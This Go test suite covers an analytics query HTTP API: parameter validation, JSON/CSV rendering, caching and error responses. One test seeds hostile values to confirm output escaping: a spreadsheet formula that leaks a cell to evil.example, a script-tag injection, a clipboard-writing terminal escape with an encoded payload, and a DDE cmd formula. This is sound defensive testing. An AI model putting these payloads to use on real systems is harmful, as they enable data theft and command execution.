package api_test

import (
	"bytes"
	"context"
	"fmt"
	"math"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/eventlake/eventlake/athena"
	"github.com/eventlake/eventlake/athena/api"
	"github.com/eventlake/eventlake/athena/lakegen"
	"github.com/eventlake/eventlake/tracker"
)

func TestNewRefusesBadConfig(t *testing.T) {
	db := newLake(t, time.Now()).db
	for name, cfg := range map[string]api.Config{
		"no runner":        {},
		"negative max age": {Runner: db, MaxAge: -time.Second},
		"negative entries": {Runner: db, MaxEntries: -1},
		"negative timeout": {Runner: db, RunTimeout: -time.Second},
	} {
		if _, err := api.New(cfg); err == nil {
			t.Errorf("%s: New accepted %+v", name, cfg)
		}
	}
}

// TestList checks the listing: every query of the library, its description
// without the parameter block, and every parameter with its type, range,
// example and the default a request without it gets.
func TestList(t *testing.T) {
	now := time.Date(2026, 11, 22, 10, 37, 0, 0, time.UTC)
	h := newAPI(t, api.Config{Runner: newLake(t, now).db, Now: func() time.Time { return now }})
	status, hdr, body := get(t, h, "/api/v1/queries")
	if status != http.StatusOK || !strings.HasPrefix(hdr.Get("Content-Type"), "application/json") {
		t.Fatalf("%d %s: %s", status, hdr.Get("Content-Type"), body)
	}
	list := decode[struct {
		Queries       []api.QueryDoc `json:"queries"`
		MaxAgeSeconds int64          `json:"max_age_seconds"`
	}](t, body)
	qs, err := athena.Queries()
	if err != nil {
		t.Fatal(err)
	}
	if len(list.Queries) != len(qs) || list.MaxAgeSeconds != 300 {
		t.Fatalf("%d queries (max age %d), want %d (300)", len(list.Queries), list.MaxAgeSeconds, len(qs))
	}
	byName := map[string]api.QueryDoc{}
	for _, q := range list.Queries {
		byName[q.Name] = q
		if q.Description == "" || strings.Contains(q.Description, "Parameters:") || strings.Contains(q.Description, "--") {
			t.Errorf("%s: description %q", q.Name, q.Description)
		}
		if q.URL != "/api/v1/queries/"+q.Name {
			t.Errorf("%s: url %q", q.Name, q.URL)
		}
	}
	want := map[string][]api.ParamDoc{
		"rotting_accounts": {
			{Name: "since", Type: "date", Example: "2026-08-24", Default: "2026-10-24"},
			{Name: "as_of", Type: "date", Example: "2026-11-22", Default: "2026-11-22"},
			{Name: "days", Type: "bigint", Example: "30", Default: "30", Min: ptr(0), Max: ptr(3650)},
		},
		"hourly_clicks_impressions": {{Name: "at", Type: "timestamp", Example: "2026-11-22T10:00:00Z", Default: "2026-11-22T10:00:00Z"}},
		"user_last_seen": {
			{Name: "from", Type: "timestamp", Example: "2026-11-01T00:00:00Z", Default: "2026-10-24T00:00:00Z"},
			{Name: "to", Type: "timestamp", Example: "2026-11-22T00:00:00Z", Default: "2026-11-23T00:00:00Z"},
		},
		"user_recent_activity": {
			{Name: "user_id", Type: "varchar", Example: "42"},
			{Name: "since", Type: "timestamp", Example: "2026-11-15T00:00:00Z", Default: "2026-10-24T00:00:00Z"},
		},
		"logins_per_day": {},
	}
	for name, params := range want {
		got := byName[name].Parameters
		if len(got) != len(params) {
			t.Errorf("%s: parameters %+v", name, got)
			continue
		}
		for i, p := range params {
			g := got[i]
			g.Description, g.Min, g.Max = "", nil, nil
			if fmt.Sprint(g) != fmt.Sprint(api.ParamDoc{Name: p.Name, Type: p.Type, Example: p.Example, Default: p.Default}) ||
				got[i].Description == "" || (got[i].Min == nil) != (p.Min == nil) {
				t.Errorf("%s parameter %d: %+v, want %+v", name, i, got[i], p)
			}
			if p.Min != nil && got[i].Min != nil && (*got[i].Min != *p.Min || *got[i].Max != *p.Max) {
				t.Errorf("%s %s: range %d..%d", name, g.Name, *got[i].Min, *got[i].Max)
			}
		}
	}
	// Every query runs with its defaults alone, except the one that needs
	// a user.
	for _, q := range list.Queries {
		_, err := h.Query(context.Background(), q.Name, nil, -1)
		if q.Name == "user_recent_activity" {
			if err == nil || !strings.Contains(err.Error(), "user_id (varchar): required") {
				t.Errorf("user_recent_activity without user_id: %v", err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s with its defaults: %v", q.Name, err)
		}
	}
	if status, _, body := get(t, h, "/api/v1/queries?x=1"); status != http.StatusBadRequest {
		t.Errorf("listing with a parameter: %d %s", status, body)
	}
}

func ptr(n int64) *int64 { return &n }

// TestQueryJSON compares the API's JSON answer with the runner's own result
// for the same arguments: columns with types, every row, NULLs, statistics,
// the parameters (defaults filled in), the age and the cost.
func TestQueryJSON(t *testing.T) {
	l := newLake(t, time.Now())
	clk := &clock{now: time.Now().UTC()}
	h := newAPI(t, api.Config{Runner: l.db, Now: clk.Now})
	q, err := athena.Lookup("signup_attribution")
	if err != nil {
		t.Fatal(err)
	}
	args, err := q.Args(l.ds.Start, l.ds.End, "30")
	if err != nil {
		t.Fatal(err)
	}
	want, err := l.db.Run(context.Background(), q, args)
	if err != nil {
		t.Fatal(err)
	}
	if len(want.Rows) == 0 {
		t.Fatal("no signups: the case proves little")
	}
	target := "/api/v1/queries/signup_attribution?from_day=" + l.ds.Start + "&to_day=" + l.ds.End
	status, hdr, body := get(t, h, target)
	if status != http.StatusOK || hdr.Get("Content-Type") != "application/json; charset=utf-8" {
		t.Fatalf("%d %s: %s", status, hdr.Get("Content-Type"), body)
	}
	doc := decode[resultDoc](t, body)
	if doc.Query != "signup_attribution" || fmt.Sprint(doc.Parameters) != fmt.Sprintf("map[from_day:%s lookback:30 to_day:%s]", l.ds.Start, l.ds.End) {
		t.Errorf("query %s, parameters %v", doc.Query, doc.Parameters)
	}
	for i, c := range want.Columns {
		if i >= len(doc.Columns) || doc.Columns[i].Name != c.Name || doc.Columns[i].Type != c.Type {
			t.Fatalf("columns %v, want %v", doc.Columns, want.Columns)
		}
	}
	if fmt.Sprint(docTexts(doc.Rows)) != fmt.Sprint(texts(want)) {
		t.Errorf("rows differ from the runner's:\n got  %v\n want %v", docTexts(doc.Rows), texts(want))
	}
	if doc.Stats.Engine != "duckdb" || doc.BytesScanned <= 0 || doc.BytesScanned != doc.Stats.BytesScanned ||
		math.Abs(doc.CostUSD-athena.Cost(doc.BytesScanned)) > 1e-10 || doc.Cache != "miss" || doc.MaxAgeSeconds != 300 {
		t.Errorf("stats %+v, bytes %d, cost %v, cache %s, max age %d", doc.Stats, doc.BytesScanned, doc.CostUSD, doc.Cache, doc.MaxAgeSeconds)
	}
	if at, err := time.Parse(time.RFC3339Nano, doc.ComputedAt); err != nil || !at.Equal(clk.Now()) || doc.AgeSeconds != 0 {
		t.Errorf("computed at %s (%v), age %v; want the clock's %v, 0", doc.ComputedAt, err, doc.AgeSeconds, clk.Now())
	}
	if cc := hdr.Get("Cache-Control"); cc != "private, max-age=300" || hdr.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("headers %v", hdr)
	}

	clk.Add(90 * time.Second)
	_, hdr, body = get(t, h, target+"&lookback=30")
	doc = decode[resultDoc](t, body)
	if doc.Cache != "hit" || doc.AgeSeconds != 90 || hdr.Get("Cache-Control") != "private, max-age=210" {
		t.Errorf("a second request 90s later: cache %s, age %v, %s", doc.Cache, doc.AgeSeconds, hdr.Get("Cache-Control"))
	}

	// NULL is null: usage_frequency's open bucket has no max_days.
	_, _, body = get(t, h, "/api/v1/queries/usage_frequency")
	if uf := decode[resultDoc](t, body); len(uf.Rows) != 5 || uf.Columns[2].Name != "max_days" || uf.Rows[4][2] != nil || uf.Rows[3][2] == nil {
		t.Errorf("usage_frequency: NULL max_days of the open bucket not null: %v", docTexts(uf.Rows))
	}

	// rows=objects: each row an object by column name.
	_, _, body = get(t, h, target+"&rows=objects")
	objs := decode[struct {
		Rows []map[string]*string `json:"rows"`
	}](t, body)
	if len(objs.Rows) != len(want.Rows) || *objs.Rows[0]["user_id"] != want.Rows[0][0].String || objs.Rows[0]["signed_up_at"] == nil {
		t.Errorf("rows=objects: %v", objs.Rows[:min(2, len(objs.Rows))])
	}
}

// TestQueryCSV: Accept: text/csv or format=csv answer the shared CSV
// renderer's output, as a download; JSON stays the default.
func TestQueryCSV(t *testing.T) {
	l := newLake(t, time.Now())
	h := newAPI(t, api.Config{Runner: l.db})
	q, _ := athena.Lookup("devices")
	args, err := q.Args(l.ds.Start, l.ds.End)
	if err != nil {
		t.Fatal(err)
	}
	res, err := l.db.Run(context.Background(), q, args)
	if err != nil {
		t.Fatal(err)
	}
	var want bytes.Buffer
	if err := res.WriteCSV(&want); err != nil {
		t.Fatal(err)
	}
	target := "/api/v1/queries/devices?from_day=" + l.ds.Start + "&to_day=" + l.ds.End
	for _, c := range []struct {
		name   string
		target string
		accept string
		csv    bool
	}{
		{"format=csv", target + "&format=csv", "", true},
		{"Accept: text/csv", target, "text/csv", true},
		{"csv preferred", target, "application/json;q=0.5, text/csv", true},
		{"json preferred", target, "application/json, text/csv;q=0.9", false},
		{"a browser", target, "text/html,application/xhtml+xml,*/*;q=0.8", false},
		{"format=json wins", target + "&format=json", "text/csv", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			status, hdr, body := get(t, h, c.target, "Accept", c.accept)
			if status != http.StatusOK {
				t.Fatalf("%d: %s", status, body)
			}
			if !c.csv {
				if !strings.HasPrefix(hdr.Get("Content-Type"), "application/json") {
					t.Errorf("Content-Type %s, want JSON", hdr.Get("Content-Type"))
				}
				return
			}
			if hdr.Get("Content-Type") != "text/csv; charset=utf-8" || body != want.String() {
				t.Errorf("Content-Type %s, body\n%s\nwant\n%s", hdr.Get("Content-Type"), body, want.String())
			}
			if cd := hdr.Get("Content-Disposition"); cd != fmt.Sprintf("attachment; filename=devices_%s_%s.csv", l.ds.Start, l.ds.End) {
				t.Errorf("Content-Disposition %q", cd)
			}
			if hdr.Get("Vary") != "Accept" {
				t.Errorf("Vary %q", hdr.Get("Vary"))
			}
		})
	}
}

// TestBadRequests: every bad request is a 400 (404 for an unknown query)
// whose JSON names each bad parameter; nothing runs.
func TestBadRequests(t *testing.T) {
	l := newLake(t, time.Now())
	run := &counting{Runner: l.db}
	h := newAPI(t, api.Config{Runner: run})
	for _, c := range []struct {
		target string
		status int
		want   []string
	}{
		{"/api/v1/queries/nope", 404, []string{`unknown query \"nope\"`}},
		{"/api/v1/queries/devices?from_day=2026-13-01", 400, []string{`from_day (date): \"2026-13-01\" is not a day YYYY-MM-DD`}},
		{"/api/v1/queries/devices?from_day=yesterday&to_day=x", 400, []string{"from_day (date)", "to_day (date)"}},
		{"/api/v1/queries/devices?form_day=2026-11-01", 400, []string{"form_day: unknown parameter; the query takes from_day, to_day"}},
		{"/api/v1/queries/devices?%3Cb%3E=1", 400, []string{`\"\u003cb\u003e\": unknown parameter`}},
		{"/api/v1/queries/devices?from_day=2026-11-01&from_day=2026-11-02", 400, []string{"from_day (date): given 2 times"}},
		{"/api/v1/queries/user_recent_activity", 400, []string{"user_id (varchar): required"}},
		{"/api/v1/queries/rotting_accounts?days=-1", 400, []string{"days (bigint): -1 is outside 0..3650"}},
		{"/api/v1/queries/rotting_accounts?days=3651", 400, []string{"days (bigint): 3651 is outside 0..3650"}},
		{"/api/v1/queries/rotting_accounts?since=2026-11-1&days=-3&extra=1&as_of=x&as_of=y", 400, []string{
			"extra: unknown parameter; the query takes since, as_of, days", "as_of (date): given 2 times",
			`since (date): \"2026-11-1\" is not a day`, "days (bigint): -3 is outside 0..3650"}},
		{"/api/v1/queries/hourly_clicks_impressions?at=1732269600000", 400, []string{"at (timestamp)", "milliseconds? give seconds"}},
		{"/api/v1/queries/devices?max_age=301", 400, []string{"max_age: \\\"301\\\" is not a number of seconds from 0 to 300"}},
		{"/api/v1/queries/devices?max_age=-1", 400, []string{"max_age"}},
		{"/api/v1/queries/devices?format=xml", 400, []string{"format: \\\"xml\\\"; want json or csv"}},
		{"/api/v1/queries/devices?rows=rows", 400, []string{"rows: want arrays or objects"}},
		{"/api/v1/queries/devices?from_day=%zz", 400, []string{"the query string does not parse"}},
		{"/api/v1/queries/devices;x", 404, []string{"unknown query"}},
		{"/api/v2/queries", 404, nil},
	} {
		t.Run(c.target, func(t *testing.T) {
			status, hdr, body := get(t, h, c.target)
			if status != c.status {
				t.Fatalf("status %d, want %d: %s", status, c.status, body)
			}
			for _, w := range c.want {
				if !strings.Contains(body, w) {
					t.Errorf("body lacks %s:\n%s", w, body)
				}
			}
			if c.want != nil && hdr.Get("Content-Type") != "application/json; charset=utf-8" {
				t.Errorf("Content-Type %s", hdr.Get("Content-Type"))
			}
		})
	}
	r, _ := http.NewRequest(http.MethodPost, "/api/v1/queries/devices", nil)
	w := &statusRecorder{header: http.Header{}}
	h.ServeHTTP(w, r)
	if w.status != http.StatusMethodNotAllowed {
		t.Errorf("POST: %d", w.status)
	}
	if n := run.runs.Load(); n != 0 {
		t.Errorf("%d runs for bad requests", n)
	}
	// Epoch seconds are a timestamp: what runs is the RFC 3339 time.
	from := time.Now().UTC().Truncate(24*time.Hour).AddDate(0, 0, -7)
	status, _, body := get(t, h, fmt.Sprintf("/api/v1/queries/user_last_seen?from=%d", from.Unix()))
	if doc := decode[resultDoc](t, body); status != 200 || doc.Parameters["from"] != from.Format(time.RFC3339) || len(doc.Rows) == 0 {
		t.Errorf("epoch seconds: %d, parameters %v, %d rows", status, doc.Parameters, len(doc.Rows))
	}
}

type statusRecorder struct {
	header http.Header
	status int
}

func (w *statusRecorder) Header() http.Header         { return w.header }
func (w *statusRecorder) Write(b []byte) (int, error) { return len(b), nil }
func (w *statusRecorder) WriteHeader(s int)           { w.status = s }

// TestHostileValuesInAnswers: client-controlled text in the lake (user IDs,
// the values the devices and campaigns come from) reaches API clients
// escaped in JSON and neutralized in CSV (formulas get a leading quote),
// through the shared renderer.
func TestHostileValuesInAnswers(t *testing.T) {
	now := time.Now().UTC()
	at := now.Truncate(24 * time.Hour).Add(-2 * time.Hour).Format(tracker.TimeLayout)
	hostile := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
		`<script>window.pwned=1</script>`,
		"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07ok",
		`@SUM(1+1)*cmd|' /C calc'!A0`,
	}
	var evs []lakegen.Event
	for i, v := range hostile {
		evs = append(evs, lakegen.Event{UserID: v, EventAt: at, EventID: fmt.Sprintf("hostile-%d", i), EventType: "login",
			UserAgent: v, Attributes: map[string]string{tracker.AttrUTMCampaign: v}, Dt: at[:10]})
	}
	l := newLake(t, now, evs...)
	h := newAPI(t, api.Config{Runner: l.db})
	target := "/api/v1/queries/user_last_seen?from=" + url.QueryEscape(now.AddDate(0, 0, -2).Format(time.RFC3339))
	_, _, csvBody := get(t, h, target+"&format=csv")
	_, _, jsonBody := get(t, h, target)
	for _, v := range []string{hostile[0], hostile[3]} { // the formulas
		if strings.Contains(csvBody, "\n"+v+",") || strings.Contains(csvBody, "\n\""+strings.ReplaceAll(v, `"`, `""`)+"\",") {
			t.Errorf("CSV passes %q through as a cell that runs", v)
		}
	}
	if !strings.Contains(csvBody, `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`) || !strings.Contains(csvBody, "'@SUM") {
		t.Errorf("CSV does not quote the formulas:\n%s", csvBody)
	}
	if strings.ContainsAny(jsonBody, "\x1b\x07<>") {
		t.Errorf("JSON holds raw control or markup characters:\n%s", jsonBody)
	}
	doc := decode[resultDoc](t, jsonBody)
	found := 0
	for _, r := range doc.Rows {
		if slices.Contains(hostile, *r[0]) {
			found++
		}
	}
	if found != len(hostile) {
		t.Errorf("JSON gives %d of the %d hostile user IDs back exactly", found, len(hostile))
	}
}
